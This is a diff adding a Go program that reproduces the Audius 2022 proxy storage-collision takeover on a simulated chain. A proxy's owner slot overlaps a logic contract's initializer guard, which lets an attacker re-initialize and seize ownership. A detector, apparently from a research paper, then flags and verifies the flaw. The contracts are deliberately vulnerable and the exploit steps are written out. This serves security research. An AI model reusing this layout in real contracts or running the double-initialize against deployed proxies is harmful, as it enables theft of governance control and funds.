@@ -1,0 +1,105 @@
+// Audius: the paper's Listing 2 storage-collision incident end-to-end. The
+// proxy keeps its owner address in slot 0; the delegatecalled logic packs
+// its initializer guard booleans into the same slot. Writing the owner
+// tramples the guard, so initialize() never locks: anyone can call it again
+// and seize ownership — which is exactly how the real Audius governance
+// contracts were taken over in July 2022.
+package main
+
+import (
+	"fmt"
+
+	"repro/internal/abi"
+	"repro/internal/chain"
+	"repro/internal/etypes"
+	"repro/internal/proxion"
+	"repro/internal/solc"
+	"repro/internal/u256"
+)
+
+func main() {
+	c := chain.New()
+	team := etypes.MustAddress("0x000000000000000000000000000000000000900d")
+	attacker := etypes.MustAddress("0x0000000000000000000000000000000000000bad")
+
+	implSlot := etypes.HashFromWord(u256.One())
+	logic := &solc.Contract{
+		Name: "GovernanceLogic",
+		Vars: []solc.Var{
+			{Name: "initialized", Type: solc.TypeBool},  // slot 0, byte 0
+			{Name: "initializing", Type: solc.TypeBool}, // slot 0, byte 1
+		},
+		Funcs: []solc.Func{
+			{ABI: abi.Function{Name: "initialize"},
+				Body: []solc.Stmt{
+					solc.RequireInitializable{Initialized: "initialized", Initializing: "initializing"},
+					solc.AssignConst{Var: "initialized", Value: u256.One()},
+					solc.AssignConst{Var: "initializing", Value: u256.Zero()},
+					// owner comes from an inherited contract whose layout
+					// ALSO starts at slot 0: the fatal overlap.
+					solc.AssignCallerToSlot{Slot: etypes.Hash{}, Offset: 0, Size: 20},
+				}},
+			{ABI: abi.Function{Name: "owner"},
+				Body: []solc.Stmt{solc.ReturnSlotField{Slot: etypes.Hash{}, Offset: 0, Size: 20}}},
+		},
+	}
+	logicAddr := etypes.MustAddress("0x0000000000000000000000000000000000002001")
+	c.InstallContract(logicAddr, solc.MustCompile(logic))
+
+	proxy := &solc.Contract{
+		Name: "AdminUpgradeabilityProxy",
+		Vars: []solc.Var{
+			{Name: "owner", Type: solc.TypeAddress}, // slot 0: collides with the guard
+			{Name: "logic", Type: solc.TypeAddress}, // slot 1
+		},
+		Funcs: []solc.Func{
+			{ABI: abi.Function{Name: "proxyOwner"},
+				Body: []solc.Stmt{solc.ReturnStorageVar{Var: "owner"}}},
+			{ABI: abi.Function{Name: "upgradeTo", Params: []string{"address"}},
+				Body: []solc.Stmt{
+					solc.RequireCallerIs{Var: "owner"},
+					solc.AssignArg{Var: "logic", Arg: 0},
+				}},
+		},
+		Fallback: solc.Fallback{Kind: solc.FallbackDelegateStorage, Slot: implSlot},
+	}
+	proxyAddr := etypes.MustAddress("0x0000000000000000000000000000000000002002")
+	c.InstallContract(proxyAddr, solc.MustCompile(proxy))
+	c.SetStorageDirect(proxyAddr, implSlot, etypes.HashFromWord(logicAddr.Word()))
+
+	initSel := abi.SelectorOf("initialize()")
+	ownerSel := abi.SelectorOf("owner()")
+	ownerOf := func() etypes.Address {
+		rc := c.Execute(team, proxyAddr, abi.EncodeCall(ownerSel), 0, u256.Zero())
+		return etypes.AddressFromWord(u256.FromBytes(rc.Output))
+	}
+
+	// 1. The team initializes, as intended.
+	rc := c.Execute(team, proxyAddr, abi.EncodeCall(initSel), 0, u256.Zero())
+	fmt.Printf("team initialize():     ok=%v, owner=%s\n", rc.Status, ownerOf())
+
+	// 2. The attacker re-initializes — the guard bits were trampled by the
+	// owner write, so this SUCCEEDS.
+	rc = c.Execute(attacker, proxyAddr, abi.EncodeCall(initSel), 0, u256.Zero())
+	fmt.Printf("attacker initialize(): ok=%v, owner=%s\n", rc.Status, ownerOf())
+	if ownerOf() != attacker {
+		panic("exploit failed — the reproduction is broken")
+	}
+	fmt.Println("ownership seized via the storage collision.")
+
+	// 3. Proxion finds the collision statically and verifies the exploit
+	// dynamically by replaying exactly this double-initialize.
+	det := proxion.NewDetector(c)
+	rep := det.Check(proxyAddr)
+	pa := det.AnalyzePair(proxyAddr, rep.Logic, nil)
+	fmt.Printf("\nProxion: proxy=%v, storage collisions=%d, exploit verified=%v\n",
+		rep.IsProxy, len(pa.Storage), pa.ExploitVerified)
+	for _, sc := range pa.Storage {
+		fmt.Printf("  slot %s: proxy field [%d,%d) vs logic field [%d,%d), exploitable=%v\n",
+			sc.Slot, sc.ProxyOffset, sc.ProxyOffset+sc.ProxySize,
+			sc.LogicOffset, sc.LogicOffset+sc.LogicSize, sc.Exploitable)
+	}
+	if !pa.ExploitVerified {
+		panic("verification failed")
+	}
+}
